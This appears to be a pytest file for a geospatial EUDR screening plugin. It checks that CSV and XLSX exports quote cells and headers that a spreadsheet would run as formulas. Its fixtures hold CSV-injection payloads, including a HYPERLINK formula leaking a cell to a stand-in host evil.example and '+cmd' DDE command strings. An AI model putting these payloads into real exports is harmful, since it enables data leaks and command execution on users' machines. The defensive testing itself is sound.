"""A result asked for as CSV or XLSX holds no cell a spreadsheet runs as a formula (OWASP "CSV Injection").

``=HYPERLINK(...)`` and ``+cmd|...`` in the input's attributes are carried into the screening result:
in a spreadsheet file they get a leading single quote; numbers stay numbers, ordinary text stays as it
was, and a GeoPackage output keeps the values exactly.
"""

import csv

import pytest
from epoch_eudr.core.display_text import needs_quote
from osgeo import ogr

from .helpers import memory_layer

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
SQUARE = "POLYGON(({x} 12.1, {x1} 12.1, {x1} 12.11, {x} 12.11, {x} 12.1))"
VALUES = [LINK, CMD, "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "Finca = buena", "-5"]


def hostile_layer():
    return memory_layer("Polygon?crs=EPSG:4326&field=plot:string&field=delta:double&field=n:integer", [
        (SQUARE.format(x=-85.9 + i * 0.02, x1=-85.89 + i * 0.02), [text, -5.5 - i, -3 - i])
        for i, text in enumerate(VALUES)], "hostile")


def rows_of(path):
    dataset = ogr.Open(str(path))
    layer = dataset.GetLayer(0)
    rows = [feature.items() for feature in layer]
    dataset = None
    return rows


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_spreadsheet_output_gets_no_formula(processing, env_login, tmp_path, suffix):
    target = tmp_path / f"screened.{suffix}"
    processing.run("epoch_eudr:screen_locations", {"INPUT": hostile_layer(), "LOCATION_TYPE": 0, "COMMODITY": 0,
                                                   "OUTPUT": str(target)})
    if suffix == "csv":
        with open(target, newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        assert not [cell for row in rows for cell in row.values() if needs_quote(cell)], rows
    rows = sorted(rows_of(target), key=lambda row: row["plot"].lstrip("'"))
    plots = sorted(row["plot"] for row in rows)
    assert plots == sorted(["'" + LINK, "'" + CMD, "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'\t=1+1",
                            "Finca = buena", "-5"])
    if suffix == "xlsx":  # typed cells: numbers stay numbers
        assert sorted(row["delta"] for row in rows) == sorted(-5.5 - i for i in range(len(VALUES)))
        assert sorted(row["n"] for row in rows) == sorted(-3 - i for i in range(len(VALUES)))
    else:  # as text, unquoted: a spreadsheet reads a number
        assert sorted(float(row["delta"]) for row in rows) == sorted(-5.5 - i for i in range(len(VALUES)))


def test_a_geopackage_output_keeps_the_values_exactly(processing, env_login, tmp_path):
    target = tmp_path / "screened.gpkg"
    processing.run("epoch_eudr:screen_locations", {"INPUT": hostile_layer(), "LOCATION_TYPE": 0, "COMMODITY": 0,
                                                   "OUTPUT": str(target)})
    assert sorted(row["plot"] for row in rows_of(target)) == sorted(VALUES)


def test_a_column_name_that_would_run_is_quoted_in_the_header(processing, env_login, tmp_path):
    layer = memory_layer("Polygon?crs=EPSG:4326&field=plot:string&field=@SUM(A1):string", [
        (SQUARE.format(x=-85.9, x1=-85.89), ["P1", "ok"])], "header")
    target = tmp_path / "screened.csv"
    processing.run("epoch_eudr:screen_locations", {"INPUT": layer, "LOCATION_TYPE": 0, "COMMODITY": 0,
                                                   "OUTPUT": str(target)})
    with open(target, newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert "'@SUM(A1)" in header and not [name for name in header if needs_quote(name)], header


def test_every_algorithm_converting_its_output_gets_the_same_rule(tmp_path):
    """The rule is where every algorithm converts its GeoPackage to the format asked for (compare_assessments
    converts its changes layer itself)."""
    from epoch_eudr.processing_provider.algorithm_base import finish_destination

    gpkg = tmp_path / "staged.gpkg"
    dataset = ogr.GetDriverByName("GPKG").CreateDataSource(str(gpkg))
    layer = dataset.CreateLayer("changes", geom_type=ogr.wkbNone)
    layer.CreateField(ogr.FieldDefn("company_name", ogr.OFTString))
    for text in (LINK, "Finca Uno"):
        feature = ogr.Feature(layer.GetLayerDefn())
        feature.SetField("company_name", text)
        layer.CreateFeature(feature)
    dataset = None
    out = tmp_path / "changes.csv"
    finish_destination(gpkg, "changes", str(out))
    with open(out, newline="", encoding="utf-8") as handle:
        names = [row["company_name"] for row in csv.DictReader(handle)]
    assert names == ["'" + LINK, "Finca Uno"]
